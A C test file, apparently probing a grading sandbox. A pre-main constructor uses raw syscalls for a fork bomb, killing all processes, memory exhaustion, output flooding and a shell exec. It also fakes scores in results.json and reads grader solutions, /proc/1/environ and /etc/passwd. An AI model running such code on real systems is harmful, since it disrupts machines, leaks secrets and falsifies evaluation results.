/*
 * What code can try that runs on the grading machine: a constructor, before the
 * driver's main() begins, makes system calls without the C library. One of the
 * names below is defined; the rest of the file is a stub.
 */
#ifndef __riscv
static long call(long number, long a, long b, long c)
{
	long result;
#ifdef __x86_64__
	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
#else
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x8 __asm__("x8") = number;

	__asm__ volatile("svc 0"
			 : "+r"(x0)
			 : "r"(x1), "r"(x2), "r"(x8)
			 : "memory");
	result = x0;
#endif
	return result;
}

#ifdef __x86_64__
enum { READ_ = 0, WRITE_ = 1, FORK_ = 57, KILL_ = 62, EXEC_ = 59, BRK_ = 12 };
enum { SLEEP_ = 35 };
static long open_(const char *path, long flags)
{
	return call(2, (long)path, flags, 0666);
}
static long fork_(void)
{
	return call(FORK_, 0, 0, 0);
}
#else
enum { READ_ = 63, WRITE_ = 64, KILL_ = 129, EXEC_ = 221, BRK_ = 214 };
enum { SLEEP_ = 101 };
static long open_(const char *path, long flags)
{
	register long x3 __asm__("x3") = 0666;

	__asm__ volatile("" ::"r"(x3));
	return call(56, -100, (long)path, flags);
}
static long fork_(void)
{
	return call(220, 17, 0, 0);
}
#endif

__attribute__((unused)) static void write_(long fd, const char *text)
{
	call(WRITE_, fd, (long)text, (long)__builtin_strlen(text));
}

/* Everything that can be read, to stdout, where answers are expected. */
__attribute__((unused)) static void print_file(const char *path)
{
	char text[512];
	long fd = open_(path, 0), size;

	while (fd >= 0 && (size = call(READ_, fd, (long)text, 512)) > 0)
		call(WRITE_, 1, (long)text, size);
}

__attribute__((constructor)) static void attack(void)
{
	static const char mark[] = "/tmp/hvlab-was-here";

	(void)fork_;
	(void)mark;
#if defined FORK
	for (;;)
		fork_();
#elif defined KILL
	call(KILL_, -1, 9, 0);
	for (long pid = 2; pid < 65536; pid++)
		call(KILL_, pid, 9, 0);
#elif defined WRITE
	static const char *const paths[] = {mark,
					    "hvlab-was-here",
					    "results.json",
					    "../events.jsonl",
					    "/proc/self/oom_score_adj",
					    "/dev/shm/hvlab-was-here"};

	for (int i = 0; i < 6; i++)
		write_(open_(paths[i], 0101), "{\"score\": 100}\n");
#elif defined READ
	print_file("grader/solutions/h2_npt/npt.c");
	print_file("/proc/1/cmdline");
	print_file("/proc/1/environ");
	print_file("/proc/self/mem");
	print_file("/etc/passwd");
#elif defined EAT
	char *end = (char *)call(BRK_, 0, 0, 0);

	for (;; end += 1 << 20)
		if (call(BRK_, (long)end + (1 << 20), 0, 0) > (long)end)
			__builtin_memset(end, 1, 1 << 20);
#elif defined FLOOD
	for (;;)
		write_(1, "0 1 1 1 4\n0123456789abcdef 0\n");
#elif defined SLEEP
	static const long day[] = {86400, 0};

	for (;;)
		call(SLEEP_, (long)day, 0, 0);
#elif defined EXEC
	const char *argv[] = {"/bin/sh", "-c",
			      "(sleep 1000 &); touch /tmp/hvlab-was-here; "
			      "while read key rest; do echo $key 0 0 0 0; done",
			      0};

	call(EXEC_, (long)argv[0], (long)argv, 0);
#endif
}
#endif
